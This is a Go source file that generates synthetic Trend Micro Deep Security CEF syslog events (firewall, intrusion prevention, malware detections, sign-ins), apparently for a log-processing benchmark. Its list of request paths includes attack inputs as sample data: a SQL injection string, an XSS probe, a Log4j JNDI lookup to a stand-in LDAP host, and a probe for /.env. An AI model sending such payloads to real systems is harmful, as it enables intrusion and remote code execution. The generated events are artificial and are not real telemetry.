package bench

import (
	"strconv"
	"time"
)

// Trend Micro Deep Security events as its agents and manager forward them
// over syslog in CEF: a BSD syslog header, the CEF header, and extensions
// where the custom fields (cn1, cs1..cs6) are named by their labels.

const (
	dsaProduct = "Deep Security Agent"
	dsaVersion = "20.0.1.8438"
	dsmHost    = "dsm-01"
	dsmVersion = "20.0.877"
)

type signature struct {
	id       string
	name     string
	severity int
}

var firewallRules = []signature{
	{"20", "Log For TCP Port Scan", 6}, {"21", "Remote Access Trojan", 6},
	{"100", "Out Of Allowed Policy", 5}, {"101", "Invalid Flags", 5},
	{"123", "Unknown IP", 5}, {"150", "Dropped Retransmit", 3},
	{"110", "Out Of Connection", 5}, {"1001", "Block inbound SMB", 5},
	{"1003", "Allow established HTTPS", 3}, {"1005", "Deny RDP from Internet", 6},
}

var ipsRules = []signature{
	{"1000552", "Generic Cross Site Scripting(XSS) Prevention", 8},
	{"1000128", "HTTP Protocol Decoding", 6},
	{"1005613", "Identified Suspicious Command Injection Attack", 8},
	{"1011242", "Apache Log4j Remote Code Execution Vulnerability (CVE-2021-44228)", 10},
	{"1008224", "Microsoft Windows SMB Remote Code Execution Vulnerability (CVE-2017-0144)", 10},
	{"1009749", "Microsoft Windows Remote Desktop Services RCE (CVE-2019-0708)", 10},
	{"1010854", "Microsoft Exchange Server RCE Vulnerability (CVE-2021-26855)", 10},
	{"1000607", "Generic SQL Injection Prevention", 8},
	{"1005934", "Identified Suspicious User Agent In HTTP Request", 6},
}

// ipsNotes are the Intrusion Prevention Note values (cs1): what the rule
// matched, often a CVE.
var ipsNotes = []string{
	"CVE-2021-44228", "CVE-2017-0144", "CVE-2019-0708", "CVE-2021-26855", "CVE-2014-6271",
	"CVE-2022-22965", "CVE-2023-44487", "payload matched", "max header length exceeded",
}

var malware = []string{
	"TROJ_GEN.R002C0DK21", "Ransom.Win32.WANNACRY.A", "Eicar_test_file", "PUA.Win32.Packed.A",
	"Trojan.Win32.EMOTET.SMTH", "Backdoor.Win32.COBEACON.A", "HackTool.Win32.Mimikatz.C",
}

var requestPaths = []string{
	"/index.php?id=1' OR '1'='1", "/search?q=<script>alert(1)</script>", "/cgi-bin/test.cgi",
	"/api/v1/users?name=${jndi:ldap://198.51.100.9/a}", "/wp-login.php", "/.env", "/owa/auth/x.js",
}

var protocols = []string{"TCP", "TCP", "TCP", "TCP", "UDP", "ICMP"}

var tcpFlags = []string{"0x00 SYN", "0x00 ACK", "0x00 ACK PSH", "0x00 ACK RST", "0x00 FIN ACK", "0x00 SYN ACK"}

var serverPorts = []int{22, 80, 443, 445, 3389, 3306, 5432, 8080, 8443, 25, 53, 123, 139, 1433}

// cef appends one Deep Security event: firewall (60%), intrusion prevention
// (22%), anti-malware (10%) or manager sign-ins (8%). Needles pick the
// type that carries them.
func (g *Generator) cef(b []byte, t time.Time, pl plant) []byte {
	switch {
	case pl.ip != "":
		return g.cefFirewall(b, t, pl.ip)
	case pl.user != "":
		return g.cefSignIn(b, t, pl.user)
	case pl.token != "":
		return g.cefMalware(b, t, pl.token)
	}
	switch x := g.r.IntN(100); {
	case x < 60:
		return g.cefFirewall(b, t, "")
	case x < 82:
		return g.cefIPS(b, t)
	case x < 92:
		return g.cefMalware(b, t, "")
	default:
		return g.cefSignIn(b, t, "")
	}
}

// cefHeader appends the syslog header and the CEF header.
func cefHeader(b []byte, t time.Time, hostname, product, version string, sig signature) []byte {
	pri := 134 // local0.info
	switch {
	case sig.severity >= 8:
		pri = 130 // local0.crit
	case sig.severity >= 6:
		pri = 132 // local0.warning
	}
	b = append(b, '<')
	b = strconv.AppendInt(b, int64(pri), 10)
	b = append(b, '>')
	b = t.UTC().AppendFormat(b, time.Stamp)
	b = append(b, ' ')
	b = append(b, hostname...)
	b = append(b, " CEF:0|Trend Micro|"...)
	b = append(b, product...)
	b = append(b, '|')
	b = append(b, version...)
	b = append(b, '|')
	b = append(b, sig.id...)
	b = append(b, '|')
	b = append(b, sig.name...)
	b = append(b, '|')
	b = strconv.AppendInt(b, int64(sig.severity), 10)
	return append(b, '|')
}

// sep appends the space between extensions (none right after the header).
func sep(b []byte) []byte {
	if n := len(b); n > 0 && b[n-1] != '|' {
		b = append(b, ' ')
	}
	return b
}

// ext appends " key=value", escaping the value as CEF requires.
func ext(b []byte, key, value string) []byte {
	b = sep(b)
	b = append(b, key...)
	b = append(b, '=')
	for i := 0; i < len(value); i++ {
		switch c := value[i]; c {
		case '\\', '=':
			b = append(b, '\\', c)
		case '\n':
			b = append(b, '\\', 'n')
		default:
			b = append(b, c)
		}
	}
	return b
}

func extInt(b []byte, key string, v int) []byte {
	b = sep(b)
	b = append(b, key...)
	b = append(b, '=')
	return strconv.AppendInt(b, int64(v), 10)
}

// agentCommon appends the fields every agent event starts with.
func agentCommon(b []byte, h *host) []byte {
	b = extInt(b, "cn1", h.hostID)
	b = ext(b, "cn1Label", "Host ID")
	return ext(b, "dvchost", h.name)
}

// flow is one packet's addresses as the agent on h saw it.
type flow struct {
	src, dst         string
	srcPort, dstPort int
	inbound          bool
	proto            string
}

func (g *Generator) flow(h *host, needleIP string) flow {
	f := flow{proto: protocols[g.r.IntN(len(protocols))], inbound: g.r.IntN(10) < 7}
	if f.inbound {
		f.src, f.dst = g.p.externalIP(), h.ip
		if g.r.IntN(4) == 0 {
			f.src = g.p.clientIP()
		}
		f.srcPort, f.dstPort = g.port(), serverPorts[g.r.IntN(len(serverPorts))]
	} else {
		f.src, f.dst = h.ip, g.p.externalIP()
		f.srcPort, f.dstPort = g.port(), serverPorts[g.r.IntN(4)]
	}
	if needleIP != "" {
		f.inbound, f.src = true, needleIP
	}
	return f
}

// packetData appends the packet data extension: base64 of the packet's
// first bytes, a fixed-looking IP header start then random bytes.
func (g *Generator) packetData(b []byte) []byte {
	b = append(b, " TrendMicroDsPacketData=RQAA"...)
	return g.base64(b, 20+4*g.r.IntN(8))
}

func (g *Generator) cefFirewall(b []byte, t time.Time, needleIP string) []byte {
	h := g.p.host()
	sig := firewallRules[g.r.IntN(len(firewallRules))]
	f := g.flow(h, needleIP)
	b = cefHeader(b, t, h.name, dsaProduct, dsaVersion, sig)
	b = agentCommon(b, h)
	act := "Reset"
	switch x := g.r.IntN(10); {
	case x < 3:
		act = "Deny"
	case x < 5:
		act = "Allow"
	case x < 6:
		act = "Log"
	}
	b = ext(b, "act", act)
	b = ext(b, "dmac", h.mac)
	b = ext(b, "smac", "00:1B:21:3C:4D:5E")
	b = ext(b, "TrendMicroDsFrameType", "IP")
	b = ext(b, "src", f.src)
	b = ext(b, "dst", f.dst)
	if f.inbound {
		b = extInt(b, "in", 40+g.r.IntN(1460))
	} else {
		b = extInt(b, "out", 40+g.r.IntN(1460))
	}
	b = ext(b, "cs3", []string{"DF", "", "DF MF"}[g.r.IntN(3)])
	b = ext(b, "cs3Label", "Fragmentation Bits")
	b = ext(b, "proto", f.proto)
	if f.proto != "ICMP" {
		b = extInt(b, "spt", f.srcPort)
		b = extInt(b, "dpt", f.dstPort)
	} else {
		b = ext(b, "cs4", "8/0")
		b = ext(b, "cs4Label", "ICMP Type and Code")
	}
	if f.proto == "TCP" {
		b = ext(b, "cs2", tcpFlags[g.r.IntN(len(tcpFlags))])
		b = ext(b, "cs2Label", "TCP Flags")
	}
	b = extInt(b, "cnt", 1+g.r.IntN(3)/2)
	if g.r.IntN(3) == 0 { // rules log packet data only when told to
		b = g.packetData(b)
	}
	return b
}

func (g *Generator) cefIPS(b []byte, t time.Time) []byte {
	h := g.p.host()
	sig := ipsRules[g.r.IntN(len(ipsRules))]
	f := g.flow(h, "")
	f.proto, f.inbound, f.dstPort = "TCP", true, []int{80, 443, 8080, 445}[g.r.IntN(4)]
	b = cefHeader(b, t, h.name, dsaProduct, dsaVersion, sig)
	b = agentCommon(b, h)
	b = ext(b, "act", []string{"Reset", "Reset", "Log", "Deny"}[g.r.IntN(4)])
	b = ext(b, "dmac", h.mac)
	b = ext(b, "smac", "00:1B:21:3C:4D:5E")
	b = ext(b, "TrendMicroDsFrameType", "IP")
	b = ext(b, "src", f.src)
	b = ext(b, "dst", f.dst)
	b = extInt(b, "in", 200+g.r.IntN(1300))
	b = ext(b, "cs3", "DF")
	b = ext(b, "cs3Label", "Fragmentation Bits")
	b = ext(b, "proto", "TCP")
	b = extInt(b, "spt", f.srcPort)
	b = extInt(b, "dpt", f.dstPort)
	b = ext(b, "cs2", "0x00 ACK PSH")
	b = ext(b, "cs2Label", "TCP Flags")
	b = extInt(b, "cnt", 1)
	b = ext(b, "cs1", ipsNotes[g.r.IntN(len(ipsNotes))])
	b = ext(b, "cs1Label", "Intrusion Prevention Note")
	b = extInt(b, "cn3", 1+g.r.IntN(20))
	b = ext(b, "cn3Label", "Intrusion Prevention Packet Position")
	if f.dstPort != 445 {
		b = ext(b, "request", "https://"+h.name+requestPaths[g.r.IntN(len(requestPaths))])
	}
	if g.r.IntN(2) == 0 {
		b = g.packetData(b)
	}
	return b
}

func (g *Generator) cefMalware(b []byte, t time.Time, token string) []byte {
	h := g.p.host()
	name := malware[g.r.IntN(len(malware))]
	sig := signature{id: strconv.Itoa(4000000 + g.r.IntN(3)), name: name, severity: 6 + 2*g.r.IntN(2)}
	b = cefHeader(b, t, h.name, dsaProduct, dsaVersion, sig)
	b = agentCommon(b, h)
	b = extInt(b, "cn2", 512+g.r.IntN(4<<20))
	b = ext(b, "cn2Label", "Quarantine File Size")
	file := "invoice_" + strconv.Itoa(g.r.IntN(100000)) + ".exe"
	if token != "" {
		file = token + ".dll"
	}
	path := "/tmp/" + file
	if h.windows {
		path = `C:\Users\` + g.pick(g.p.people) + `\Downloads\` + file
	}
	b = ext(b, "filePath", path)
	b = ext(b, "act", []string{"Quarantine", "Delete", "Clean", "Deny Access"}[g.r.IntN(4)])
	b = ext(b, "msg", []string{"Realtime", "Realtime", "Scheduled", "Manual"}[g.r.IntN(4)])
	b = ext(b, "TrendMicroDsMalwareTarget", "N/A")
	b = append(b, " fileHash="...)
	b = g.upperHex(b, 40)
	return ext(b, "TrendMicroDsDetectionConfidence", strconv.Itoa(70+g.r.IntN(31)))
}

var signInEvents = []signature{
	{"600", "User Signed In", 3}, {"601", "User Signed Out", 3},
	{"602", "User Timed Out", 3}, {"603", "User Locked Out", 6},
	{"608", "User Session Validation Failed", 6},
}

func (g *Generator) cefSignIn(b []byte, t time.Time, user string) []byte {
	sig := signInEvents[g.r.IntN(len(signInEvents))]
	if user == "" {
		user = g.pick(g.p.people)
	} else {
		sig = signInEvents[0]
	}
	src := g.p.clientIP()
	b = cefHeader(b, t, dsmHost, "Deep Security Manager", dsmVersion, sig)
	b = ext(b, "src", src)
	b = ext(b, "suser", user)
	b = ext(b, "target", user)
	b = ext(b, "msg", sig.name+" from "+src)
	return ext(b, "TrendMicroDsOrigin", src)
}
